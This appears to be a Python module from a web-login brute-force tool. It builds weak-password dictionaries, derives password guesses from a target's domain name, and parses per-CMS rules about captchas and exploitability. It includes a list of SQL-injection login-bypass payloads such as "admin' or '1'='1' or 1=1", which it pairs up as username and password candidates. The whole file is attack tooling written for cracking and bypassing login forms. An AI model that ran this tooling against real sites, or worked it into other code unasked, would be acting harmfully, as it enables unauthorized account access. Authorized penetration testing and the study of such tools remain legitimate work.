"""Credential dictionaries: built-in general list, domain-derived list,
SQL-injection login-bypass payloads and per-CMS custom rules."""

from __future__ import annotations

import enum
import ipaddress
import itertools
import json
from dataclasses import dataclass
from pathlib import Path
from typing import Iterable, List, Optional, Sequence, Tuple, Union
from urllib.parse import urlparse


class Origin(enum.Enum):
    GENERAL = "General"
    DYNAMIC = "Dynamic"
    PCFG = "Pcfg"
    UNIVERSAL = "Universal"
    HINT = "Hint"


@dataclass(frozen=True)
class Credential:
    username: str
    password: str
    origin: Origin = Origin.GENERAL


# "{user}" entries are derived from the probed username and are dropped when
# there is none.  Order is part of the contract; 123123 is listed twice on purpose.
BASE_DICTIONARY: Tuple[str, ...] = (
    "{user}", "123456", "{user}888", "12345678", "123123", "88888888", "888888",
    "password", "123456a", "{user}123", "{user}123456", "{user}666", "{user}2018",
    "123456789", "654321", "666666", "66666666", "1234567890", "8888888",
    "987654321", "0123456789", "12345", "1234567", "000000", "111111", "5201314",
    "123123",
)

DEFAULT_SUFFIXES: Tuple[str, ...] = ("123", "888", "666", "123456")

UNIVERSAL_PAYLOADS: Tuple[str, ...] = (
    "admin' or 'a'='a",
    "'or'='or'",
    "admin' or '1'='1' or 1=1",
    "')or('a'='a",
    "'or 1=1 -- -",
)

# Two-level public suffixes seen often enough to matter; everything else is
# treated as a single-label TLD.
MULTI_LABEL_SUFFIXES = frozenset({
    "com.cn", "net.cn", "org.cn", "gov.cn", "edu.cn", "ac.cn", "mil.cn",
    "com.hk", "com.tw", "org.tw", "edu.tw", "co.uk", "org.uk", "ac.uk", "gov.uk",
    "co.jp", "ne.jp", "or.jp", "ac.jp", "com.au", "net.au", "org.au", "edu.au",
    "co.kr", "or.kr", "com.br", "com.sg", "com.my", "co.in", "co.nz", "com.mx",
})
GENERIC_LABELS = frozenset({"www", "m", "wap"})


def general_dict(username: str, base: Sequence[str] = BASE_DICTIONARY) -> List[Credential]:
    out = []
    for template in base:
        if "{user}" in template:
            if not username:
                continue
            password = template.replace("{user}", username)
        else:
            password = template
        out.append(Credential(username, password, Origin.GENERAL))
    return out


def _host_of(target: str) -> str:
    if "://" not in target:
        target = "http://" + target
    return (urlparse(target).hostname or "").strip(".").lower()


def split_domain(host: str) -> Optional[Tuple[List[str], str]]:
    """``(subdomain labels + registrable label, public suffix)`` or None.

    None means the host is an IP literal, a single label or a bare suffix.
    """
    host = _host_of(host)
    if not host:
        return None
    try:
        ipaddress.ip_address(host)
        return None
    except ValueError:
        pass
    labels = host.split(".")
    if len(labels) < 2:
        return None
    suffix_len = 2 if ".".join(labels[-2:]) in MULTI_LABEL_SUFFIXES else 1
    if len(labels) <= suffix_len:
        return None
    return labels[:-suffix_len], ".".join(labels[-suffix_len:])


def meaningful_labels(host: str) -> List[str]:
    parts = split_domain(host)
    if parts is None:
        return []
    return [label for label in parts[0] if label and label not in GENERIC_LABELS]


def dynamic_dict(target_url: str, suffixes: Sequence[str] = DEFAULT_SUFFIXES) -> List[str]:
    parts = split_domain(target_url)
    if parts is None:
        return []
    labels, suffix = parts
    words = [f"{labels[-1]}.{suffix}"]
    for label in meaningful_labels(target_url):
        words.append(label)
        words.extend(label + s for s in suffixes)
    return words


@dataclass(frozen=True)
class CmsRule:
    name: str
    keywords: str = ""
    captcha: int = 0
    exp_able: int = 1
    success_flag: str = ""
    fail_flag: str = ""
    alert: int = 0
    note: str = ""

    def __post_init__(self) -> None:
        for flag in ("captcha", "exp_able", "alert"):
            if getattr(self, flag) not in (0, 1):
                raise ValueError(f"rule {self.name!r}: {flag} must be 0 or 1")

    def matches(self, page_text: str) -> bool:
        return bool(self.keywords) and self.keywords in page_text


class RulesError(ValueError):
    pass


RULE_FIELDS = ("name", "keywords", "captcha", "exp_able", "success_flag", "fail_flag", "alert", "note")


def _flag(value, field: str, index: int) -> int:
    try:
        value = int(str(value).strip() or 0)
    except ValueError:
        raise RulesError(f"rule #{index}: {field} must be 0 or 1, got {value!r}") from None
    if value not in (0, 1):
        raise RulesError(f"rule #{index}: {field} must be 0 or 1, got {value!r}")
    return value


def parse_rules(text: str) -> List[CmsRule]:
    try:
        data = json.loads(text) if text.strip() else []
    except json.JSONDecodeError as exc:
        raise RulesError(f"malformed rules JSON at line {exc.lineno}, column {exc.colno}: {exc.msg}") from exc
    if not isinstance(data, list):
        raise RulesError("rules file must hold a JSON array")
    rules = []
    for i, entry in enumerate(data):
        if not isinstance(entry, dict):
            raise RulesError(f"rule #{i}: expected an object")
        unknown = set(entry) - set(RULE_FIELDS)
        if unknown:
            raise RulesError(f"rule #{i}: unknown fields {sorted(unknown)}")
        if not entry.get("name"):
            raise RulesError(f"rule #{i}: missing name")
        rules.append(CmsRule(
            name=str(entry["name"]),
            keywords=str(entry.get("keywords", "")),
            captcha=_flag(entry.get("captcha", 0), "captcha", i),
            exp_able=_flag(entry.get("exp_able", 1), "exp_able", i),
            success_flag=str(entry.get("success_flag", "")),
            fail_flag=str(entry.get("fail_flag", "")),
            alert=_flag(entry.get("alert", 0), "alert", i),
            note=str(entry.get("note", "")),
        ))
    return rules


def load_rules(path: Union[str, Path]) -> List[CmsRule]:
    try:
        raw = Path(path).read_bytes()
    except OSError as exc:
        raise RulesError(f"cannot read rules file {path}: {exc}") from exc
    try:
        text = raw.decode("utf-8-sig")
    except UnicodeDecodeError as exc:
        raise RulesError(f"rules file {path} is not UTF-8 (byte {exc.start})") from exc
    return parse_rules(text)


def dump_rules(rules: Iterable[CmsRule]) -> str:
    return json.dumps(
        [{f: getattr(r, f) for f in RULE_FIELDS} for r in rules], indent=2, ensure_ascii=False
    )


def match_rule(rules: Sequence[CmsRule], page_text: str) -> Optional[CmsRule]:
    return next((r for r in rules if r.matches(page_text)), None)


def universal_dict(rule: Optional[CmsRule] = None, payloads: Sequence[str] = UNIVERSAL_PAYLOADS) -> List[Credential]:
    if rule is not None and not rule.exp_able:
        return []
    return [Credential(u, p, Origin.UNIVERSAL) for u, p in itertools.product(payloads, payloads)]
